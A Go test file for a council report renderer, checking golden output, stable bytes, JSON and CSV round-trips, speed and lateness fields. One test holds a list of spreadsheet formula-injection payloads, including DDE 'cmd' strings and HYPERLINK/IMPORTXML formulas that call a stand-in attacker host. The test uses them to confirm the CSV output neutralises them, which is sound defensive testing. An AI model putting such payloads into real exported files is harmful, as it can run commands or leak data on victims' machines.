package render_test

import (
	"bytes"
	"encoding/csv"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/concordat-suite/concordat/services/platform/files/spreadsheet"
	"github.com/concordat-suite/concordat/services/platform/words/date"
	"github.com/concordat-suite/concordat/services/reporting/content"
	"github.com/concordat-suite/concordat/services/reporting/frozen"
	"github.com/concordat-suite/concordat/services/reporting/frozen/frozentest"
	"github.com/concordat-suite/concordat/services/reporting/narrative"
	"github.com/concordat-suite/concordat/services/reporting/render"
)

var update = flag.Bool("update", false, "write the golden files anew")

func example(kind content.Kind) content.Report {
	return content.Compose(content.Input{Kind: kind, Name: frozentest.Council + "/reports/00000000-0000-7000-8000-00000000000f",
		LinkBase: "https://reports.example", Now: frozentest.Now(), Before: frozentest.Before()})
}

// TestGolden holds the bytes of the documents. When they change on purpose, render.Version must grow once a release has
// been made with the old one: stored reports are compared by these bytes.
func TestGolden(t *testing.T) {
	for name, kind := range map[string]content.Kind{"annual": content.Annual, "management-team": content.ManagementTeam} {
		for _, format := range render.Formats {
			t.Run(name+"."+string(format), func(t *testing.T) {
				got, err := render.Render(example(kind), format)
				if err != nil {
					t.Fatal(err)
				}
				file := filepath.Join("testdata", name+"."+string(format))
				if *update {
					if err := os.WriteFile(file, got, 0o644); err != nil {
						t.Fatal(err)
					}
				}
				want, err := os.ReadFile(file)
				if err != nil {
					t.Fatal(err)
				}
				if !bytes.Equal(got, want) {
					t.Errorf("differs from %s; run go test ./reporting/render -update and read the difference", file)
				}
			})
		}
	}
}

// TestSameBytes renders the same data several times; maps must not show in the order of anything.
func TestSameBytes(t *testing.T) {
	for _, format := range render.Formats {
		first, err := render.Render(example(content.Annual), format)
		if err != nil {
			t.Fatal(err)
		}
		for range 20 {
			again, err := render.Render(example(content.Annual), format)
			if err != nil || !bytes.Equal(first, again) {
				t.Fatalf("%s: other bytes for the same data (%v)", format, err)
			}
		}
	}
}

func TestReadJSON(t *testing.T) {
	want := example(content.Annual)
	data, err := render.JSON(want)
	if err != nil {
		t.Fatal(err)
	}
	got, err := render.ReadJSON(data)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got.Figures, want.Figures) {
		t.Error("the figures did not come back as they were")
	}
	for _, f := range want.Figures {
		if !reflect.DeepEqual(got.Explain(f), want.Explain(f)) {
			t.Errorf("%s is explained otherwise after reading", f.ID)
		}
	}
}

// TestCSV reads the CSV form back by the rules of RFC 4180.
func TestCSV(t *testing.T) {
	data, err := render.CSV(example(content.Annual))
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(bytes.ReplaceAll(data, []byte("\r\n"), nil), []byte("\r")) || !bytes.HasSuffix(data, []byte("\r\n")) {
		t.Error("lines must end with CR LF")
	}
	text, marked := bytes.CutPrefix(data, []byte(spreadsheet.ByteOrderMark))
	if !marked {
		t.Error("Excel would take the letters of the file for others")
	}
	rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if want := 1 + 4 + 3*2; len(rows) != want { // headings; four partnerships; three with two checks each
		t.Errorf("%d rows, want %d", len(rows), want)
	}
	for _, row := range rows[1:] {
		if row[0] != "2025-09-30" {
			t.Errorf("data as at %q", row[0])
		}
	}
}

// TestCSVRunsNoFormula puts payloads into every text of an entry and reads the cells back.
func TestCSVRunsNoFormula(t *testing.T) {
	payloads := []string{
		"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", " =1+1", "  +1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
		"=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")",
		"=IMPORTXML(CONCAT(\"https://evil.example\"),\"//a\")", "＝1+1", "＋1", "－1", "＠SUM(1)", "|calc", "%0A=1+1", "=1+1\",=2+2", "\"=1+1\"\n=2",
		"\u2028=1+1", "\u202e=1+1", "\x1b=1+1", "=\x00", "--1", "+-1", "=", "\xff=1+1", "'=1+1", "\t\t@x", "\r\n=1+1",
	}
	for _, payload := range payloads {
		r := example(content.Annual)
		e := &r.Partnerships[1]
		e.DisplayName, e.Reference, e.Area, e.Officer, e.LeadMember, e.Return = payload, payload, payload, payload, payload, payload
		e.Gaps = []string{payload}
		e.Said = &narrative.Said{Achievements: payload, NextAims: payload, Explanation: payload, By: payload, Decision: frozen.Decision(payload),
			Rating: frozen.Overall(payload), Targets: []narrative.Target{{Title: payload}}, Risks: []narrative.Risk{{Title: payload, Owner: payload}},
			Years: []narrative.Year{{Year: payload}}, NotKnown: []narrative.NotKnown{{Fact: payload, Reason: payload}}}
		e.Results[0].Criterion, e.Results[0].Title, e.Results[0].Reason, e.Results[0].Unstated = payload, payload, payload, []string{payload}
		data, err := render.CSV(r)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatalf("%q: %v", payload, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n\x00|%") || strings.HasPrefix(strings.TrimSpace(cell), "=") {
					t.Errorf("%q gives the cell %q", payload, cell)
				}
			}
		}
	}
}

// TestLarge: an annual report over 1,000 partnerships takes no more than 3 s to HTML (P9), and fits in an answer. The
// fastest of some tries counts, as the machine may be busy with something else.
func TestLarge(t *testing.T) {
	now := frozentest.Large(1000)
	var r content.Report
	fastest := time.Hour
	for range 5 {
		start := time.Now()
		r = content.Compose(content.Input{Kind: content.Annual, Name: "councils/cambridge/reports/r", Now: now, Before: frozentest.Before()})
		if _, err := render.HTML(r); err != nil {
			t.Fatal(err)
		}
		if fastest = min(fastest, time.Since(start)); fastest < time.Second {
			break
		}
	}
	t.Logf("HTML in %v", fastest)
	if fastest > 3*time.Second {
		t.Errorf("took %v", fastest)
	}
	for _, format := range render.Formats {
		data, err := render.Render(r, format)
		if err != nil || len(data) > 8<<20 {
			t.Errorf("%s: %d bytes do not fit in an answer (%v)", format, len(data), err)
		}
	}
}

// TestLatenessInEveryForm: how late a return is stands in every form of every report, for those still out and those that are in.
func TestLatenessInEveryForm(t *testing.T) {
	day := date.MustParse
	now := frozentest.Now()
	for i := range now.Returns {
		switch r := &now.Returns[i]; r.Partnership {
		case frozentest.Partnership(1): // out since 14 July
			r.Due, r.FirstDue = day("2025-07-14"), day("2025-06-30")
		case frozentest.Partnership(2):
			r.State, r.Came, r.Due = frozen.Accepted, day("2025-07-05"), day("2025-06-30")
		case frozentest.Partnership(3): // in time, and not confirmed
			r.State, r.AwaitsConfirmation, r.Came, r.Due = frozen.InProgress, true, day("2025-06-20"), day("2025-06-30")
		}
	}
	for _, kind := range []content.Kind{content.Annual, content.ManagementTeam} {
		r := content.Compose(content.Input{Kind: kind, Name: "councils/cambridge/reports/r", Now: now, Before: frozentest.Before()})
		for format, wants := range map[render.Format][]string{
			render.HTMLFormat: {"78 calendar days late", "5 calendar days late", "Received, awaiting the officer&#39;s confirmation"},
			render.CSVFormat:  {",2025-07-14,2025-06-30,,78,", ",2025-06-30,2025-06-30,2025-07-05,5,", ",2025-06-30,2025-06-30,2025-06-20,0,"},
			render.JSONFormat: {
				`"due_on":"2025-07-14","first_due_on":"2025-06-30","came_on":"","days_late":78`,
				`"due_on":"2025-06-30","first_due_on":"2025-06-30","came_on":"2025-07-05","days_late":5`,
			},
		} {
			got, err := render.Render(r, format)
			if err != nil {
				t.Fatal(err)
			}
			for _, want := range wants {
				if !bytes.Contains(got, []byte(want)) {
					t.Errorf("%s.%s lacks %q", kind, format, want)
				}
			}
		}
	}
}
